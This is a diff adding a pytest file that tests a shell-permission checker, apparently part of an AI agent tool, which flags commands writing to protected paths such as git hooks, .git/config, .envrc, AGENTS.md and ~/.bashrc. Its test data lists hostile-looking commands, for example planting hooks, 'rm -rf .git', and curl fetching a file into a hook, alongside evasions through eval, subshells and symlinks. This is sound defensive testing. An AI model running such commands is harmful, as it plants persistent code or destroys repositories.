@@ -1,0 +1,68 @@
+from pathlib import Path
+
+import pytest
+
+from yourtool.permissions.shell.writes import find_protected_write
+
+
+@pytest.fixture
+def root(tmp_path):
+    root = tmp_path.resolve()
+    for name in (".git/hooks", "src", ".github/workflows"):
+        (root / name).mkdir(parents=True)
+    (root / "AGENTS.md").write_text("x\n")
+    (root / "link").symlink_to(".git/hooks")
+    (root / "src/out").symlink_to("../.git/config")
+    return root
+
+
+@pytest.mark.parametrize(
+    "line",
+    [
+        "echo x > .git/hooks/pre-commit", "echo x >> .git/config", "echo x >| .git/config",
+        "echo x &> .git/config", "true; (echo x > .git/hooks/a)", "if true; then echo >.envrc; fi",
+        "echo x 1<> .git/config", "echo x >& .git/config", "echo x > '.g'it/config",
+        "echo x > ./src/../.git/config", "echo x > .GIT/config", "cat <<X > .git/hooks/a\nx\nX",
+        "cp a .git/hooks/pre-commit", "cp -t .git/hooks a", "cp --target-directory=.git/hooks a",
+        "mv a .vscode/tasks.json", "echo x | tee .git/hooks/a", "sed -i s/a/b/ .git/config",
+        "sed -ni.bak p .git/config", "sed --in-place p .git/config", "perl -pi -e 1 .envrc",
+        "git config core.pager ./x", "git -C . config --add a.b c", "git config --unset a.b",
+        "git config set core.hooksPath x", "git config -e", "ln -s a .git/hooks/a",
+        "chmod +x .git/hooks/a", "install a .git/hooks/a", "dd if=a of=.git/hooks/a",
+        "rsync a .git/hooks/", "touch AGENTS.md", "rm -rf .git", "mkdir -p .github/workflows",
+        "truncate -s0 .git/config", "cd .git && echo x > config", "cd .git/hooks && cp ../../a b",
+        "sudo cp a .git/hooks/a", "env X=1 tee .git/config", "timeout 5 touch .git/hooks/a",
+        "bash -c 'echo x > .git/hooks/a'", "env sh -c 'touch .envrc'", "eval 'touch .envrc'",
+        "find . | xargs cp -t .git/hooks", "cp a link/pre-commit", "echo x > src/out",
+        "cp a ~/.bashrc", 'cp a "$HOME/.bashrc"', "cp a .gi*/hooks/a", "rm .g*", "rm *.md",
+        "curl -o .git/hooks/a example.org", "wget -O .envrc example.org",
+        "for f in a; do cp a .envrc; done",
+        "$(touch .envrc)", "echo `touch .envrc`", "true && /bin/cp a .git/config",
+        "git mv a .gitmodules",
+    ],
+)  # fmt: skip
+@pytest.mark.req("R-TOOL-07")
+def test_visible_write_to_a_protected_place_is_found(root, line):
+    assert find_protected_write(line, root) is not None
+
+
+@pytest.mark.parametrize(
+    "line",
+    [
+        "make test > out.txt", "cp a b", "cat .git/config", "grep tee .git/config", "ls .git/hooks",
+        "git config --get user.name", "git config user.name", "git config --list",
+        "git commit -m x",
+        "echo .git/hooks/a", "sed -n p .git/config", "cd src && touch a", "echo x 2>&1", "rm *.py",
+        "mkdir build", "python x.py .git/config", "diff .git/config a > out", "", "cp", "echo >",
+        "cat < .git/config", "tee", "bash -c 'cat .git/config'", "gcc -o main main.c",
+        "touch .gitkeep",
+    ],
+)  # fmt: skip
+def test_reading_and_other_writes_are_no_protected_writes(root, line):
+    assert find_protected_write(line, root) is None
+
+
+@pytest.mark.parametrize("start", ["echo x > .envrc #", "echo 'x > .envrc"])
+def test_line_that_cannot_be_parsed_may_write_to_every_path_in_it(start):
+    assert find_protected_write(start + " y" * 5_000, Path("/nowhere")) == ".envrc"
+    assert find_protected_write("echo " + " x" * 5_000, Path("/nowhere")) is None
